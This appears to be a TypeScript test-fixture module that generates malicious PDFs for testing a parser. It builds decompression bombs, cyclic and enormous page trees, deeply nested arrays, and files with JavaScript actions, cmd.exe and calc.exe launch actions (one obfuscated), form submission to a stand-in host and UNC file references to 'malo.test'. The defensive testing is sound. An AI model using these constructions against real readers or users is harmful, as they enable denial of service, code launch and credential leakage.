import { deflateSync } from 'node:zlib';

type Body = string | Buffer;

/** A PDF of these objects, from number 1, the catalog, on; with a table of their places. */
export function pdfOf(objects: readonly Body[], trailer = ''): Buffer {
  const pieces: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  let written = pieces[0]?.length ?? 0;
  const places: number[] = [];
  for (const [i, object] of objects.entries()) {
    const piece = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`),
      Buffer.from(object),
      Buffer.from('\nendobj\n'),
    ]);
    places.push(written);
    pieces.push(piece);
    written += piece.length;
  }
  const table = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  const end = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${written}\n%%EOF\n`;
  return Buffer.concat([...pieces, Buffer.from(end)]);
}

export const streamOf = (dict: string, content: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`<< ${dict} /Length ${content.length} >>\nstream\n`),
    content,
    Buffer.from('\nendstream'),
  ]);

const catalog = '<< /Type /Catalog /Pages 2 0 R >>';
const page = (more = '', parent = 2) =>
  `<< /Type /Page /Parent ${parent} 0 R /MediaBox [0 0 200 200] ${more} >>`;
const pages = (kids: string, count: number, more = '') =>
  `<< /Type /Pages /Kids [${kids}] /Count ${count} ${more} >>`;
const range = (n: number, from = 0) => Array.from({ length: n }, (_, i) => i + from);
const deep = (n: number) => `${'['.repeat(n)}${']'.repeat(n)}`;

/** One page, with further objects from number 4 on. */
export const onePage = (more = '', ...others: Body[]) =>
  pdfOf([catalog, pages('3 0 R', 1), page(more), ...others]);

/** Eight levels of nodes that each name the next one fifty times: 39 × 10¹² pages in 3 kB. */
export const sharedTree = () =>
  pdfOf([catalog, ...range(8, 3).map((next) => pages(`${next} 0 R `.repeat(50), 50)), page('', 9)]);

export const cyclicTree = () =>
  pdfOf([catalog, pages('3 0 R 4 0 R', 2), pages('2 0 R', 1, '/Parent 2 0 R'), page()]);

export const manyPages = (n: number) =>
  pdfOf([
    catalog,
    pages(
      range(n, 3)
        .map((id) => `${id} 0 R`)
        .join(' '),
      n,
    ),
    ...range(n).map(() => page()),
  ]);

/** An object stream that inflates to so many MiB. */
export const inflatingObjects = (mib: number) =>
  onePage(
    '',
    streamOf(
      '/Type /ObjStm /N 1 /First 6 /Filter /FlateDecode',
      deflateSync(Buffer.concat([Buffer.from('9 0   (x) '), Buffer.alloc(mib * 1024 ** 2, 0x20)])),
    ),
  );

/** The same, packed twice. */
export const inflatingTwice = (mib: number) =>
  onePage(
    '',
    streamOf(
      '/Type /ObjStm /N 1 /First 6 /Filter [/FlateDecode /FlateDecode]',
      deflateSync(deflateSync(Buffer.alloc(mib * 1024 ** 2, 0x20))),
    ),
  );

export const endlessEntries = () =>
  onePage('', streamOf('/Type /XRef /Size 2000000000 /W [0 0 0] /Root 1 0 R', Buffer.alloc(8)));

export const cyclicPrev = () => pdfOf([catalog, pages('3 0 R', 1), page()], '/Prev 9');

export const deepArrays = () => onePage(`/Hostil ${deep(200_000)}`);

export const hugeCount = () => pdfOf([catalog, pages('3 0 R', 2_000_000_000), page()]);

/** Each page inherits a dictionary that stands in their parent. */
export const inheritedByAll = (n: number, entries: number) =>
  pdfOf([
    catalog,
    pages(
      range(n, 3)
        .map((id) => `${id} 0 R`)
        .join(' '),
      n,
      `/Resources << /Font << ${range(entries)
        .map((i) => `/F${i} 3 0 R`)
        .join(' ')} >> >>`,
    ),
    ...range(n).map(() => page()),
  ]);

/** More objects than a child may hold, in one array. */
export const manyObjects = (n: number) => onePage('', `[${'<<>>'.repeat(n)}]`);

/** One dictionary with so many names. */
export const wideDictionary = (n: number) =>
  onePage(
    `/Hostil << ${range(n)
      .map((i) => `/F${i} 1`)
      .join(' ')} >>`,
  );

/** A chain of objects that each refer to the next one. */
export const longChain = (n: number) =>
  onePage('/Hostil 4 0 R', ...range(n, 5).map((id) => `<< /Sigue ${id} 0 R >>`), '<< >>');

export const cyclicParents = () =>
  pdfOf([catalog, pages('3 0 R', 1), page('', 4), '<< /Type /Pages /Kids [] /Count 0 /Parent 4 0 R >>']);

/** A page with every action that a PDF may have, a link to another page and one to an address. */
export const withActions = () =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript << /Names [(a) 6 0 R] >> >> >>',
    pages('3 0 R 4 0 R', 2),
    page('/AA << /O 6 0 R >> /Annots [5 0 R 7 0 R 8 0 R 9 0 R 10 0 R 11 0 R]'),
    page('/AA << /O << /S /JavaScript /JS (app.alert\\(2\\)) >> >>'),
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [4 0 R /Fit] /Next 6 0 R >> >>',
    '<< /S /JavaScript /JS (app.alert\\(1\\)) /Next << /S /Launch /F (cmd.exe) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://ejemplo.test/) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /#4caunch /F (calc.exe) >> >>',
    '<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://malo.test/) >> /AA << /U 6 0 R >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert\\(3\\)) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 6 0 R >>',
  ]);

const FAR = '(\\\\\\\\malo.test\\\\share\\\\x)';
const look = '/AP << /N 12 0 R >>';

/** A page with everything of a PDF that names a file outside it. */
export const withFilesOutside = () =>
  pdfOf([
    catalog,
    pages('3 0 R', 1),
    page(
      '/Contents 13 0 R /Annots [5 0 R 6 0 R 7 0 R 8 0 R 9 0 R 10 0 R 11 0 R] /Resources << /XObject << /X 4 0 R >> >> /AF [14 0 R]',
    ),
    streamOf(
      `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F ${FAR} /Page 0 >> /OPI << /1.3 << /F 14 0 R >> >>`,
      Buffer.from('0 0 9 9 re f'),
    ),
    `<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] ${look} /Movie << /F ${FAR} >> >>`,
    `<< /Type /Annot /Subtype /Sound /Rect [0 0 9 9] /Sound << /Type /Sound /R 8000 /F 14 0 R >> >>`,
    `<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /MK << >> /A << /S /Rendition /R << /S /MR /C << /S /MCD /D 14 0 R >> >> >> >>`,
    `<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << /Names [(x) 14 0 R] >> >> /RichMediaSettings << >> >>`,
    `<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 14 0 R >>`,
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file://malo.test/share/x) >> >>',
    `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ${FAR} /F 14 0 R >> /PA << /S /URI /URI ${FAR} >> >>`,
    streamOf('/Type /XObject /Subtype /Form /BBox [0 0 9 9]', Buffer.from('0 0 9 9 re f')),
    streamOf(`/F 14 0 R /FFilter /FlateDecode`, Buffer.from('0 0 9 9 re f')),
    `<< /Type /Filespec /FS /URL /F ${FAR} /UF 15 0 R /DOS ${FAR} /Unix ${FAR} >>`,
    FAR,
  ]);
